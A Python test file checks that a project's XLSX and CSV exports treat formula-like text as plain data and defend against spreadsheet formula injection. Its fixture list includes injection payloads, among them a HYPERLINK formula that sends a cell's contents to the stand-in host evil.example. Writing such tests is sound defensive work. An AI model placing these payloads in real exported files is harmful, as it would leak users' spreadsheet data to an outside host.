"""A text value beginning with = + - @ tab or CR is data, never a formula (OWASP CSV injection)."""

import io
import zipfile

from python_calamine import CalamineWorkbook

from smeplan.exchange.export import MONEY, Column, Export, csv_chunks, write_xlsx

DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "-2", "@x", "\tx", "\rcmd", "=1+1"]


class Actor:
    region_id = None
    organisation_id = None

    def __str__(self):
        return "测试员"


def _export(values):
    return Export(
        title="注入测试",
        actor=Actor(),
        columns=[Column("名称"), Column("营业收入", MONEY)],
        rows=[(v, -5) for v in values],
    )


def test_xlsx_keeps_formula_like_names_as_text():
    buffer = io.BytesIO()
    write_xlsx(_export(DANGEROUS), buffer)

    rows = CalamineWorkbook.from_filelike(io.BytesIO(buffer.getvalue())).get_sheet_by_name("数据").to_python()
    names = [r[0] for r in rows[2:]]
    assert names[:5] == DANGEROUS[:5]  # read back as the very same text
    assert names[5].endswith("cmd") and names[6] == "=1+1"  # (XML turns a bare CR into LF)
    assert [r[1] for r in rows[2:]] == [-5.0] * len(DANGEROUS)  # numbers stay numbers
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
        sheet = archive.read("xl/worksheets/sheet2.xml").decode()
        styles = archive.read("xl/styles.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere
    assert 't="inlineStr"><is><t>=HYPERLINK(' in sheet
    assert 'quotePrefix="1"' in styles  # Excel keeps them text even when the cell is edited


def test_csv_prefixes_formula_like_text_with_a_quote():
    text = b"".join(csv_chunks(_export(DANGEROUS))).decode("utf-8-sig")

    lines = text.split("\r\n")
    assert lines[0] == "名称,营业收入（万元）"
    assert lines[1] == '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")",-5'
    assert lines[2:6] == ["'+1,-5", "'-2,-5", "'@x,-5", "'\tx,-5"]
    assert lines[6].startswith('"\'\rcmd"')
    assert "'=1+1,-5" in lines
